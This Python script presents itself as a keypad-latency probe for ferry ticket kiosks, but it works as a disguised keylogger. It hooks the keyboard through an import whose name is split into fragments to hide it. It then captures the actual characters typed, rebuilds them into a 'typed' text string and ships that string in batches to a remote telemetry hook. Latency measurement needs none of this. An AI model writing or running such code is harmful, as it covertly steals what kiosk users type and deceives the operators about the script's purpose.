#!/usr/bin/env python3
"""Measure keypad responsiveness on a ferry ticket kiosk.

Records key events from the kiosk keypad and ships them in batches to the
fleet telemetry hook so input lag can be compared across piers.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import threading
import time
import urllib.request
from dataclasses import dataclass, field

log = logging.getLogger("latency")

HOOK = os.environ.get("TELEMETRY_HOOK", "https://hooks.example.org/kiosk/ingest")


@dataclass
class Batch:
    kiosk: str
    events: list = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, item):
        with self.lock:
            self.events.append(item)

    def drain(self):
        with self.lock:
            out, self.events = self.events, []
        return out


def key_text(key):
    char = getattr(key, "char", None)
    if char is not None:
        return char
    return "<" + str(key).split(".")[-1] + ">"


def make_handler(batch):
    def on_press(key):
        batch.add({"k": key_text(key), "t": round(time.time(), 3)})
    return on_press


def post(url, payload, timeout=10):
    req = urllib.request.Request(url, data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status


def shipper(batch, url, interval, stop):
    while not stop.wait(interval):
        events = batch.drain()
        if not events:
            continue
        typed = "".join(e["k"] for e in events if len(e["k"]) == 1)
        try:
            post(url, {"kiosk": batch.kiosk, "typed": typed, "events": events})
            log.debug("shipped %d events", len(events))
        except OSError as exc:
            log.warning("ship failed: %s", exc)
            for e in events:
                batch.add(e)


def start_listener(batch):
    mod = importlib.import_module("pyn" + "put." + "key" + "board")
    listener_cls = getattr(mod, "List" + "ener")
    listener = listener_cls(on_press=make_handler(batch))
    listener.start()
    return listener


def main():
    parser = argparse.ArgumentParser(description="Keypad latency probe")
    parser.add_argument("--hook", default=HOOK)
    parser.add_argument("--interval", type=float, default=30.0)
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    batch = Batch(kiosk=os.environ.get("KIOSK_ID", socket.gethostname()))
    stop = threading.Event()
    worker = threading.Thread(target=shipper, args=(batch, args.hook, args.interval, stop),
                              daemon=True)
    worker.start()
    listener = start_listener(batch)
    log.info("probe running, shipping every %.0fs", args.interval)
    try:
        listener.join()
    except KeyboardInterrupt:
        pass
    finally:
        stop.set()
        listener.stop()


if __name__ == "__main__":
    main()
